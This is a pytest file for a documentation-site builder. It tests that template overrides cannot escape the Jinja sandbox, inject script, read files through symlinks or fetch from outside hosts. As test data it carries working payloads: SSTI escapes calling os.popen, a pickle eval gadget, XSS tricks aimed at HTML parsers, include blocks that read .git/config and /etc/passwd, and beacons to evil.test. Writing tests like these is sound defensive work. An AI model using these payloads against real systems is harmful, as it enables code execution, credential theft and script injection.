"""Template overrides run in Jinja's sandbox, and no file is read through a link that leaves the project."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from .sitekit import copy_project, rolebook, snapshot, soup, sweep

ESCAPES = {
    "globals of a function": "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
    "a class's subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a method's module": "{{ playbook.roles.items.__self__.__class__ }}",
    "a filter's internals": "{{ (roles | list).pop() }}",
    "the environment": "{{ self._TemplateReference__context.environment }}",
    "a list changed in place": "{% set x = [1] %}{{ x.append(2) }}",
    "pydantic's unpickling": (
        "{{ role.review.parse_raw(\"c__builtin__\\neval\\n(S'1'\\ntR.\", proto='pickle', allow_pickle=True) }}"
    ),
    "pydantic's file reading": "{{ site.parse_file('/etc/hostname') }}",
    "a class method": "{{ site.model_validate({}) }}",
    "a model's class": "{{ role.review.model_construct() }}",
    "a date's class": "{{ site.published.fromisoformat('2020-01-01') }}",
}


def _override_role_page(project: Path, body: str) -> None:
    (project / "templates" / "pages").mkdir(parents=True, exist_ok=True)
    (project / "templates" / "pages" / "role.md.j2").write_text(
        '{% extends "!default/pages/role.md.j2" %}\n{% block title %}\n# Role\n\n'
        + body
        + "\n{% endblock %}\n",
        "utf-8",
    )


def _fresh(tmp_path: Path) -> Path:
    project = copy_project(tmp_path / "p")
    for path in (project / "templates").iterdir():  # a project holds only its own overrides
        if path.is_dir():
            subprocess.run(["rm", "-rf", str(path)], check=True)
    return project


@pytest.mark.parametrize("attempt", sweep(ESCAPES, keep=4))  # the rest with -m slow
def test_a_template_that_reaches_for_internals_fails_with_a_located_error(
    tmp_path: Path, attempt: str
) -> None:
    project = _fresh(tmp_path)
    _override_role_page(project, ESCAPES[attempt])
    result = rolebook("build", cwd=project)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert "templates/pages/role.md.j2:" in result.stderr
    assert "not allowed in a template" in result.stderr or "undefined value" in result.stderr
    assert not (project / "PWNED").exists() and not (project / "site").exists()


def test_the_sandbox_leaves_a_template_only_rolebooks_filters_and_no_globals(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    _override_role_page(project, "{{ range(3) | list }}")
    result = rolebook("build", cwd=project)
    assert result.returncode == 1
    assert "templates/pages/role.md.j2:" in result.stderr and "'range' is undefined" in result.stderr
    _override_role_page(project, "{{ role.name | pprint }}")
    result = rolebook("build", cwd=project)
    assert result.returncode == 1 and "pprint" in result.stderr
    _override_role_page(project, "{{ role.name | plain }} {{ role.summary | rich }} {{ role.name | upper }}")
    assert rolebook("build", cwd=project).returncode == 0


def test_an_override_cannot_place_a_value_as_markup(tmp_path: Path) -> None:
    """Values are escaped in every template, Markdown pages included, and escaping cannot be turned off."""
    project = _fresh(tmp_path)
    role = project / "roles" / "support-team.yaml"
    role.write_text(
        re.sub(
            r"(?m)^name: .*$", "name: 'Support\" onmouseover=\"alert(1)'", role.read_text("utf-8"), count=1
        ),
        "utf-8",
    )
    _override_role_page(project, '<span class="who" title="{{ role.name }}">{{ role.name }}</span>')
    assert rolebook("build", cwd=project).returncode == 0
    page = soup(project / "site" / "roles" / "support-team" / "index.html")
    span = page.find("span", class_="who")
    assert span is not None and span["title"] == 'Support" onmouseover="alert(1)'
    assert not [a for e in page.find_all(True) for a in e.attrs if a.startswith("on")]
    for trick in ("{% autoescape false %}{{ role.name }}{% endautoescape %}", "{{ role.name | safe }}"):
        _override_role_page(project, trick)
        result = rolebook("build", cwd=project)
        assert result.returncode == 1, trick
        assert "templates/pages/role.md.j2" in result.stderr and "Traceback" not in result.stderr


CUTS = {
    "translated escaped text": '{{ (role.summary | e).translate({91: "<", 93: ">"}) }}',
    "a piece of rich text": '{{ ("`a`" | rich).split("a")[0] }}{{ role.summary }}',
    "a slice of rich text": '{{ ("[a](http://x)" | rich)[0:8] ~ role.short }}',
    "rich text replaced": '{{ (role.summary | rich).replace("[", "<") }}',
    "rich text reversed": "{{ (role.summary | rich) | reverse }}",
}


@pytest.mark.parametrize("cut", sweep(CUTS))
def test_safe_text_cut_apart_is_text_again(tmp_path: Path, cut: str) -> None:
    """Escaped and cleaned values are safe whole; sliced, split, translated or replaced they are plain
    text again, escaped where placed, so no override can turn a value into markup."""
    project = _fresh(tmp_path)
    role = project / "roles" / "support-team.yaml"
    text = re.sub(
        r"(?m)^summary: .*$", "summary: '[img src=x onerror=alert(1)]'", role.read_text("utf-8"), count=1
    )
    role.write_text(text, "utf-8")
    _override_role_page(project, CUTS[cut])
    result = rolebook("build", cwd=project)
    assert result.returncode == 0, result.stderr
    page = soup(project / "site" / "roles" / "support-team" / "index.html")
    assert not page.find_all("img")
    assert not [a for e in page.find_all(True) for a in e.attrs if a.startswith("on")]


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<a href='javascript:alert(1)'>x</a>",
        "<b onclick=x>y</b>",
        "<iframe></iframe>",
    ],
)
def test_an_override_may_not_add_script(tmp_path: Path, body: str) -> None:
    project = _fresh(tmp_path)
    _override_role_page(project, body)
    result = rolebook("build", cwd=project)
    assert result.returncode == 1 and "templates may not add script" in result.stderr, result.stderr
    assert not (project / "site").exists()


def test_ordinary_template_code_works_in_the_sandbox(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    body = (
        '{{ "{} ({})".format(role.name, role.short) }}\n\n'
        '{% for item in role.responsibilities %}{{ loop.cycle("odd", "even") }} {{ item | rich }}\n{% endfor %}'
        "{{ role.name | e | upper }} {{ site.published.isoformat() }}"
    )
    _override_role_page(project, body)
    result = rolebook("build", cwd=project)
    assert result.returncode == 0, result.stderr
    text = (project / "site" / "roles" / "support-team" / "index.html").read_text("utf-8")
    assert "Support Team (SUP)" in text and "odd" in text and "SUPPORT TEAM" in text


def test_an_included_stylesheet_template_escapes_too(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    (project / "templates" / "pages").mkdir(parents=True)
    (project / "templates" / "pages" / "raw.css.j2").write_text('<i title="{{ role.name }}">x</i>', "utf-8")
    role = project / "roles" / "support-team.yaml"
    role.write_text(
        re.sub(r"(?m)^name: .*$", "name: 'a\" onclick=\"alert(1)'", role.read_text("utf-8"), count=1)
    )
    _override_role_page(project, '{% include "pages/raw.css.j2" %}')
    assert rolebook("build", cwd=project).returncode == 0
    page = soup(project / "site" / "roles" / "support-team" / "index.html")
    assert not [a for e in page.find_all(True) for a in e.attrs if a.startswith("on")]


THEME_ESCAPES = {
    "a file read through MkDocs": (
        '{% if page %}{{ page.file.generated(config, "x.txt", abs_src_path="/etc/hostname").content_string }}'
        "{% endif %}"
    ),
    "an unsandboxed environment": "{{ config.theme.get_env().from_string('{{ 7*7 }}').render() }}",
    "rolebook's raw values": '{{ config.plugins["rolebook"].playbook.config.title }}',
    "the configuration changed": "{{ config.load_dict({}) }}",
    "every plugin's build hooks": '{{ config.plugins.on_post_build(config=namespace(site_dir="/tmp")) }}',
    "the plugins shut down": "{{ config.plugins.on_shutdown() }}",
    "a huge range": "{{ range(10 ** 9) | list | length }}",
    "a missing value": "{{ nosuch.x }}",
    "a failing expression": "{{ 1 / 0 }}",
}


def _custom_partial(project: Path, text: str) -> None:
    """A partial in mkdocs.yml's custom_dir, the place for theme changes."""
    config = project / "mkdocs.yml"
    config.write_text(
        config.read_text("utf-8").replace("  name: material\n", "  name: material\n  custom_dir: overrides\n")
    )
    partial = project / "overrides" / "partials" / "copyright.html"
    partial.parent.mkdir(parents=True, exist_ok=True)
    partial.write_text(text, "utf-8")


@pytest.mark.parametrize("attempt", sweep(THEME_ESCAPES, keep=3))
def test_a_theme_template_cannot_reach_out_and_fails_where_it_stands(tmp_path: Path, attempt: str) -> None:
    """Theme templates (Material's, and mkdocs.yml's custom_dir) render in the narrowed sandbox too."""
    project = _fresh(tmp_path)
    _custom_partial(project, THEME_ESCAPES[attempt])
    result = rolebook("build", cwd=project)
    assert result.returncode == 1
    assert result.stderr.startswith("overrides/partials/copyright.html:1:1: error: "), result.stderr
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    assert not (project / "site").exists() and not (tmp_path / "x.txt").exists()


def test_a_theme_template_renders_in_the_sandbox(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    _custom_partial(project, "{{ config.__class__.__init__.__globals__['os'].popen('touch PWNED').read() }}")
    result = rolebook("build", cwd=project)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and not (project / "PWNED").exists()
    _custom_partial(project, '<div class="org-note">{{ config.site_name }}</div>')
    assert rolebook("build", cwd=project).returncode == 0
    assert 'class="org-note"' in (project / "site" / "index.html").read_text("utf-8")


def test_a_theme_folder_among_the_templates_is_not_published(tmp_path: Path) -> None:
    """Theme files among the playbook's sources would reach the site unchecked: rolebook does not use them."""
    project = _fresh(tmp_path)
    theme = project / "templates" / "theme"
    (theme / "partials").mkdir(parents=True)
    (theme / "partials" / "copyright.html").write_text("<script>alert(1)</script>", "utf-8")
    (theme / "assets" / "javascripts").mkdir(parents=True)
    (theme / "assets" / "javascripts" / "extra.js").write_text("alert(2)", "utf-8")
    (theme / "evil.svg").write_text("<svg><script>alert(3)</script></svg>", "utf-8")
    assert rolebook("build", cwd=project).returncode == 0
    site = project / "site"
    assert not (site / "evil.svg").exists() and not (site / "assets" / "javascripts" / "extra.js").exists()
    assert not [p for p in site.rglob("*.html") if "alert(1)" in p.read_text("utf-8")]


def test_diff_renders_a_revisions_templates_in_the_sandbox(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org"]
    subprocess.run(["git", "init", "-q", "-b", "main"], cwd=project, check=True)
    subprocess.run([*git, "add", "-A"], cwd=project, check=True)
    subprocess.run([*git, "commit", "-qm", "base"], cwd=project, check=True)
    subprocess.run([*git, "checkout", "-qb", "hostile"], cwd=project, check=True)
    cards = project / "templates" / "cards"
    cards.mkdir(parents=True)
    (cards / "card.html.j2").write_text(
        "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}", "utf-8"
    )
    role = project / "roles" / "support-team.yaml"
    text = role.read_text("utf-8")
    role.write_text(
        re.sub(r"(?m)^summary: .*$", "summary: Keeps customers informed.", text, count=1), "utf-8"
    )
    subprocess.run([*git, "add", "-A"], cwd=project, check=True)
    subprocess.run([*git, "commit", "-qm", "hostile template"], cwd=project, check=True)
    result = rolebook("diff", "main", "hostile", cwd=project)
    assert result.returncode == 0  # both revisions validate; the report says where the cards failed
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    said = "templates/cards/card.html.j2:1:1: error: the cards could not be printed to compare them"
    assert said in result.stdout and "not allowed in a template" in result.stdout
    assert not (project / "PWNED").exists()


def _link(path: Path, target: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists():
        path.unlink()
    os.symlink(target, path)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the project that must never be read: valid role YAML, so reading it would publish it."""
    path = tmp_path / "outside" / "secret.yaml"
    path.parent.mkdir()
    path.write_text(
        "name: SECRET-NAME\nshort: SEC\nsummary: SECRET-SUMMARY.\nresponsibilities: [SECRET-DUTY.]\n"
        "review: {owner: '@sec', last_reviewed: 2026-11-01}\n",
        "utf-8",
    )
    return path


LINKED = {
    "a role file": "roles/secret-role.yaml",
    "a settings file": "site_config/secret.yaml",
    "a template": "templates/pages/role.md.j2",
    "a theme file": "templates/theme/partials/copyright.html",
    "a page of docs/": "docs/secret.md",
}


@pytest.mark.parametrize("kind", sweep(LINKED, keep=2))
@pytest.mark.parametrize("command", ["validate", "build", "cards", "export"])
def test_a_link_out_of_the_project_is_refused_with_its_file(
    tmp_path: Path, secret: Path, kind: str, command: str
) -> None:
    project = _fresh(tmp_path)
    rel = LINKED[kind]
    _link(project / rel, secret)
    args = {
        "validate": ["validate"],
        "build": ["build"],
        "cards": ["cards", "-o", str(tmp_path / "cards.pdf")],
        "export": ["export", "--format", "markdown", "-o", str(tmp_path / "exported")],
    }[command]
    before = snapshot(project)
    result = rolebook(*args, cwd=project)
    output = result.stdout + result.stderr
    assert "SECRET" not in output
    for made in (project / "site", tmp_path / "exported", tmp_path / "cards.pdf"):
        if made.is_dir():
            assert all(
                "SECRET" not in p.read_text("utf-8", "replace") for p in made.rglob("*") if p.is_file()
            )
    assert result.returncode == 1, output
    assert f"{rel}:1:1: error: leads outside the project" in output
    assert "Traceback" not in output and "internal error" not in output
    assert snapshot(project) == before


def test_a_linked_folder_out_of_the_project_is_refused(tmp_path: Path, secret: Path) -> None:
    project = _fresh(tmp_path)
    subprocess.run(["rm", "-rf", str(project / "docs")], check=True)
    _link(project / "docs", secret.parent)
    result = rolebook("build", cwd=project)
    assert result.returncode == 1 and "docs:1:1: error: leads outside the project" in result.stderr
    assert not (project / "site").exists()


def test_a_link_into_a_hidden_folder_of_the_project_is_refused(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("[remote]\n  url = https://token@example.org/\n", "utf-8")
    _link(project / "docs" / "gitconfig.txt", Path("../.git/config"))
    result = rolebook("build", cwd=project)
    assert (
        result.returncode == 1 and "docs/gitconfig.txt:1:1: error: leads outside the project" in result.stderr
    )
    assert not (project / "site").exists() and "token" not in result.stderr


def test_links_that_stay_inside_the_project_keep_working(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    shared = project / "shared-pages"
    shared.mkdir()
    (shared / "on-call.md").write_text("# On call\n\nThe rota.\n", "utf-8")
    _link(project / "docs" / "on-call.md", Path("../shared-pages/on-call.md"))
    assert rolebook("validate", cwd=project).returncode == 0
    result = rolebook("build", cwd=project)
    assert result.returncode == 0, result.stderr
    assert "The rota." in (project / "site" / "on-call" / "index.html").read_text("utf-8")


def test_links_round_a_loop_are_refused_with_their_files(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    os.symlink("a", project / "docs" / "b")
    os.symlink("b", project / "docs" / "a")
    os.symlink("loop.yaml", project / "roles" / "loop.yaml")
    result = rolebook("build", cwd=project)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    for rel in ("docs/a", "docs/b", "roles/loop.yaml"):
        assert f"{rel}:1:1: error: leads outside the project, into a hidden folder of it or round a loop" in (
            result.stderr
        )


def test_the_diff_report_shows_playbook_text_as_written(tmp_path: Path) -> None:
    """The report becomes a pull-request comment: a name cannot add a link, a heading or an @mention there."""
    project = _fresh(tmp_path)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org"]
    subprocess.run(["git", "init", "-q", "-b", "main"], cwd=project, check=True)
    subprocess.run([*git, "add", "-A"], cwd=project, check=True)
    subprocess.run([*git, "commit", "-qm", "base"], cwd=project, check=True)
    role = project / "roles" / "support-team.yaml"
    name = "Support [Team](https://evil.example/login) @acme/security **now**"
    role.write_text(re.sub(r"(?m)^name: .*$", f"name: '{name}'", role.read_text("utf-8"), count=1), "utf-8")
    result = rolebook("diff", "main", "--no-cards", cwd=project)
    assert result.returncode == 0, result.stderr
    report = result.stdout
    assert (
        "Support \\[Team\\]\\(`https://evil.example/login`\\) @&#8203;acme/security \\*\\*now\\*\\*" in report
    )
    assert "](" not in report and "@acme" not in report and "**now**" not in report


def test_a_pipe_among_the_role_files_is_refused_not_waited_on(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    os.mkfifo(project / "roles" / "fifo.yaml")
    result = rolebook("validate", cwd=project, timeout=60)
    assert result.returncode == 1
    assert "roles/fifo.yaml:1:1: error: not a file (a pipe, a socket or a device)" in result.stdout


MARKDOWN_SCRIPT = {
    "an attribute list": '## Next steps {: onclick="alert(1)" }',
    "a link": "[Open](javascript:alert(1))",
    "a reference link": "[Open][x]\n\n[x]: javascript:alert(1)",
}


@pytest.mark.parametrize("made", sweep(MARKDOWN_SCRIPT, keep=1))
@pytest.mark.parametrize("command", ["build", "export"])
def test_script_that_markdown_would_make_from_an_override_is_refused(
    tmp_path: Path, made: str, command: str
) -> None:
    """The check reads the page as it is converted, so Markdown that turns into script only then is caught."""
    project = _fresh(tmp_path)
    _override_role_page(project, MARKDOWN_SCRIPT[made])
    args = (
        ["build"] if command == "build" else ["export", "--format", "markdown", "-o", str(tmp_path / "out")]
    )
    result = rolebook(*args, cwd=project)
    assert result.returncode == 1, result.stderr
    assert re.search(r"roles/[a-z-]+\.md: the project's templates make this page write", result.stderr)
    assert "templates may not add script" in result.stderr and "Traceback" not in result.stderr
    assert not (project / "site").exists() and not (tmp_path / "out").exists()


PARSER_TRICKS = {
    "a comment closed early": "<!--><img src=x onerror=alert(1)>-->",
    "a comment closed oddly": "<!-- a --!><img src=x onerror=alert(1)> -->",
    "CDATA outside SVG": "<![CDATA[ x > <img src=x onerror=alert(1)> ]]>",
    "a style element in SVG": "<div><svg><style><img src=x onerror=alert(1)></style></svg></div>",
    "a tag left open for the layout": "<div>\n<img src=x onerror=alert(1) ",
    "an SVG animation of a link": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
}


@pytest.mark.parametrize("trick", list(PARSER_TRICKS))
def test_the_script_check_reads_html_as_a_browser_does(tmp_path: Path, trick: str) -> None:
    project = _fresh(tmp_path)
    _override_role_page(project, PARSER_TRICKS[trick])
    result = rolebook("build", cwd=project)
    assert result.returncode == 1 and "templates may not add script" in result.stderr, result.stderr
    assert not (project / "site").exists()


def test_a_card_override_may_not_add_script(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    (project / "templates" / "cards").mkdir(parents=True)
    (project / "templates" / "cards" / "card.html.j2").write_text(
        '{% include "!default/cards/card.html.j2" %}<!--><img src=x onerror=alert(1)>-->',
        "utf-8",
    )
    result = rolebook("cards", "-o", str(tmp_path / "cards.pdf"), cwd=project)
    assert result.returncode == 1 and "templates may not add script" in result.stderr, result.stderr


@pytest.mark.parametrize(
    ("front", "allowed"),
    [
        ("hide:\n  - toc\n  - navigation", True),
        ('title: "X\\x3c/title\\x3e"', False),
        ('description: "\\x22\\x3e"', False),
        ("template: 123", False),
        ("search: 5", False),
        ("hide: 5", False),
    ],
)
def test_a_pages_front_matter_may_only_hide_parts(tmp_path: Path, front: str, allowed: bool) -> None:
    """Front matter reaches the page's head as the theme places it: a template may only say what to hide."""
    project = _fresh(tmp_path)
    (project / "templates" / "pages").mkdir(parents=True)
    (project / "templates" / "pages" / "role.md.j2").write_text(
        f"---\n{front}\n---\n# {{{{ role.name | plain }}}}\n", "utf-8"
    )
    result = rolebook("build", cwd=project)
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    if allowed:
        assert result.returncode == 0, result.stderr
    else:
        assert result.returncode == 1
        assert (
            "templates/pages/role.md.j2:1:1: error: the page's front matter may only say what to hide"
            in result.stderr
        )


@pytest.mark.parametrize("page", ["severities.md.j2", "raci.md.j2"])
def test_front_matter_without_its_dashes_is_front_matter_too(tmp_path: Path, page: str) -> None:
    """MkDocs also reads "key: value" lines opening a page as its meta (MultiMarkdown's form), and Material
    writes a title from there into the head unescaped: a template writing one is refused the same way."""
    project = _fresh(tmp_path)
    (project / "templates" / "pages").mkdir(parents=True)
    (project / "templates" / "pages" / page).write_text(
        f'{{% extends "!default/pages/{page}" %}}{{% block front_matter %}}{{% endblock %}}'
        "{% block title %}title: <b title='</title><img src=x onerror=alert(1)>'>\n\n# Levels\n{% endblock %}",
        "utf-8",
    )
    result = rolebook("build", cwd=project)
    assert result.returncode == 1, result.stdout + result.stderr
    assert (
        f"templates/pages/{page}:1:1: error: the page's front matter may only say what to hide"
        in result.stderr
    )


_SCRIPT = "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"  # no "<" for the script check to see


@pytest.mark.parametrize(
    ("opening", "said"),
    [
        ("\ufeff---\ndescription: '{s}'\n---\n", "the page's front matter may only say what to hide"),
        (  # a template's "\r" written by an expression: Jinja turns the file's own line breaks into "\n"
            '---{{ "\\r" }}\ndescription: \'{s}\'{{ "\\r" }}\n---{{ "\\r" }}\n',
            "the page's front matter may only say what to hide",
        ),
        ("---\n# \x7f\ndescription: '{s}'\n---\n", "the page opens with '---' but not with front matter"),
        ("---\nhide: !x [toc]\n---\n", "the page opens with '---' but not with front matter"),
        ("\n\n---\ndescription: '{s}'\n---\n", "the page opens with '---' but not with front matter"),
    ],
    ids=["byte-order-mark", "crlf", "not-yaml", "yaml-tag", "blank-lines-first"],
)
def test_front_matter_hidden_from_one_reader_is_refused_for_every_engine(
    tmp_path: Path, opening: str, said: str
) -> None:
    """MkDocs and Zensical read the exported files without a byte order mark and with "\\n" line breaks,
    and Zensical reads a block PyYAML refuses: whatever opens a page with '---' must be front matter that
    only hides, as read here, or the page is refused (by the exports and the build alike)."""
    project = _fresh(tmp_path)
    (project / "templates" / "pages").mkdir(parents=True)
    (project / "templates" / "pages" / "severities.md.j2").write_text(
        opening.replace("{s}", _SCRIPT) + "\n# Severity levels\n", "utf-8"
    )
    for command in (
        ["export", "--format", "zensical", "-o", "z"],
        ["export", "--format", "markdown", "-o", "m"],
    ):
        result = rolebook(*command, cwd=project)
        assert result.returncode == 1, result.stderr
        assert f"templates/pages/severities.md.j2:1:1: error: {said}" in result.stderr
        assert "Traceback" not in result.stderr
    assert not (project / "z").exists() and not (project / "m").exists()


def test_front_matter_that_only_hides_may_come_with_a_byte_order_mark_or_crlf(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    (project / "templates" / "pages").mkdir(parents=True)
    (project / "templates" / "pages" / "severities.md.j2").write_text(
        "\ufeff---\r\nhide: [toc]\r\n---\r\n\r\n# Severity levels\r\n", "utf-8"
    )
    result = rolebook("export", "--format", "markdown", "-o", "m", cwd=project)
    assert result.returncode == 0, result.stderr
    assert (project / "m" / "docs" / "severities.md").read_text("utf-8").startswith("---\nhide: [toc]\n---\n")


def _severities_page_writing(tmp_path: Path, markdown: str) -> Path:
    """A project whose own severities page template writes ``markdown`` (in its block "choosing")."""
    project = _fresh(tmp_path)
    (project / "templates" / "pages").mkdir(parents=True)
    (project / "templates" / "pages" / "severities.md.j2").write_text(
        '{% extends "!default/pages/severities.md.j2" %}{% block choosing %}\n'
        + markdown
        + "\n{% endblock %}",
        "utf-8",
    )
    return project


@pytest.mark.parametrize(
    "block",
    [
        '--8<-- ".git/config"',
        ";--8<--\n.git/config\n;--8<--",
        "```plantuml\n!include /etc/passwd\n```",
        "{% raw %}{% dot x.svg\ndigraph { a }\n%}{% endraw %}",
    ],
    ids=["snippet", "snippet-block", "plantuml", "graphviz"],
)
def test_a_template_may_not_write_markdown_that_reads_files(tmp_path: Path, block: str) -> None:
    """Backstage's techdocs-core turns on Markdown extensions that include files (pymdownx.snippets: a
    project's .git/config, with its tokens, onto the page) or run PlantUML and Graphviz: a template of the
    project's may not write their blocks."""
    project = _severities_page_writing(tmp_path, block)
    result = rolebook("build", cwd=project)
    assert result.returncode == 1, result.stderr
    assert (
        "templates/pages/severities.md.j2:1:1: error: pages/severities.md.j2 (with the project's templates)"
        in result.stderr
    )
    assert "templates may not include files or run programs" in result.stderr


@pytest.mark.parametrize(
    "fetch",
    [
        '<img src="https://evil.test/pixel.png" alt="">',
        '<link rel="stylesheet" href="//evil.test/x.css">',
        '<div style="background: url( https://evil.test/bg.png )">x</div>',
        '<svg><image href="https://evil.test/i.svg"/></svg>',
        '<form action="https://evil.test/login"><input name="p"></form>',
        '<img srcset="a.png 1x, https://evil.test/b.png 2x" alt="">',
        '<a href="https://example.org/" ping="https://evil.test/ping">x</a>',
        "![x](https://evil.test/m.png)",
    ],
    ids=["img", "link", "style", "svg-image", "form", "srcset", "ping", "markdown-image"],
)
def test_a_template_may_not_fetch_from_another_host(tmp_path: Path, fetch: str) -> None:
    """The site loads nothing from another host (offline; a signed-in reader's visit told to no one)."""
    project = _severities_page_writing(tmp_path, fetch)
    result = rolebook("build", cwd=project)
    assert result.returncode == 1, result.stderr
    assert "nor fetch anything from another host" in result.stderr and "Traceback" not in result.stderr


def test_a_stylesheet_template_may_not_fetch_from_another_host_but_a_page_may_link_there(
    tmp_path: Path,
) -> None:
    project = _severities_page_writing(
        tmp_path,
        '<a href="https://example.org/runbook">the runbook</a> and [the wiki](https://example.org/wiki)',
    )
    assert rolebook("build", cwd=project).returncode == 0  # links may lead elsewhere
    (project / "templates" / "assets").mkdir(parents=True)
    (project / "templates" / "assets" / "rolebook.css.j2").write_text(
        '{% extends "!default/assets/rolebook.css.j2" %}{% block rolemap %}@import url("https://evil.test/x.css");'
        "{% endblock %}",
        "utf-8",
    )
    result = rolebook("build", cwd=project)
    assert result.returncode == 1, result.stderr
    assert (
        "assets/rolebook.css.j2 (with the project's templates) writes a stylesheet fetching from another host"
        in result.stderr
    )


def test_a_template_writing_a_lone_surrogate_is_located(tmp_path: Path) -> None:
    project = _fresh(tmp_path)
    _override_role_page(project, '{{ "\\ud800" }}')
    result = rolebook("build", cwd=project)
    assert result.returncode == 1 and "internal error" not in result.stderr
    assert (
        "templates/pages/role.md.j2:1:1: error: writes '\\ud800'" in result.stderr
        and "lone surrogate" in result.stderr
    )
